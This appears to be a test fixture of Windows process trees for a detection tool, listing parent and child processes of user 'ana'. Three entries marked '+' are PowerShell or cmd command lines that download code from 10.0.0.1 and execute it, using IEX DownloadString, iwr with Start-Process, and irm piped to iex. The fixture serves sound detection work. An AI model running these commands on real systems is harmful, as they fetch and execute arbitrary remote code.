os windows
101 1 ana - C:\Windows\explorer.exe | C:\Windows\explorer.exe
102 101 ana - C:\Windows\System32\cmd.exe | C:\Windows\System32\cmd.exe
+ 103 102 ana - C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe | powershell -nop -c "IEX (New-Object Net.WebClient).DownloadString('http://10.0.0.1/a.ps1')"
+ 104 102 ana - C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe | powershell -c "iwr http://10.0.0.1/a.exe -OutFile a.exe; Start-Process a.exe"
+ 105 102 ana - C:\Windows\System32\cmd.exe | cmd /c powershell irm http://10.0.0.1/a ^| iex
